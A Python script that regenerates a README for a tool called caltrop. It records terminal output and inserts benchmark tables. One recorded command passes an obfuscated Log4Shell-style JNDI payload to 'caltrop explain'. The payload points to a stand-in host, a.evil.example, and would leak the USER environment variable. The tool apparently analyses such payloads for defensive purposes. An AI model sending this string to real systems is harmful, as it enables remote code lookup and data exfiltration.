#!/usr/bin/env python3
"""Puts real output into README.md: the recorded terminal between its marks, and the tables of bench/results*.md.

    tools/record-readme.py [--caltrop build/caltrop]

Each recorded command runs as shown, at 120 columns, without colour.
"""
import argparse
import os
import pathlib
import re
import shlex
import subprocess
import sys
import tempfile

ROOT = pathlib.Path(__file__).resolve().parent.parent
COMMANDS = [
    "caltrop up --sample",
    "caltrop explain '${${lower:j}ndi:${lower:l}dap://a.evil.example/${env:USER}}'",
]


def record(caltrop):
    out = []
    with tempfile.TemporaryDirectory() as folder:
        for command in COMMANDS:
            words = shlex.split(command)
            environment = {"PATH": os.environ["PATH"], "COLUMNS": "120", "LC_ALL": "C.UTF-8", "NO_COLOR": "1", "HOME": folder}
            done = subprocess.run([caltrop, *words[1:]], cwd=folder, env=environment, capture_output=True, text=True, check=False)
            if done.returncode not in (0, 1):
                sys.exit(f"{command}: exit status {done.returncode}\n{done.stderr}")
            out.append(f"$ {command}\n{done.stdout.rstrip()}\n")
    return "```text\n" + "\n".join(out) + "```\n"


def replace(text, mark, body):
    block = re.compile(rf"(<!-- {mark} -->\n).*?(<!-- /{mark} -->)", re.S)
    if not block.search(text):
        sys.exit(f"README.md has no <!-- {mark} --> block")
    return block.sub(lambda m: m.group(1) + body + m.group(2), text)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--caltrop", default="build/caltrop")
    args = parser.parse_args()
    readme = ROOT / "README.md"
    text = readme.read_text()
    if os.access(args.caltrop, os.X_OK):
        text = replace(text, "terminal", record(os.path.abspath(args.caltrop)))
    for results in sorted((ROOT / "bench").glob("results*.md")):
        text = replace(text, results.stem.replace("results", "bench"), results.read_text())
    readme.write_text(text)
    return 0


if __name__ == "__main__":
    sys.exit(main())
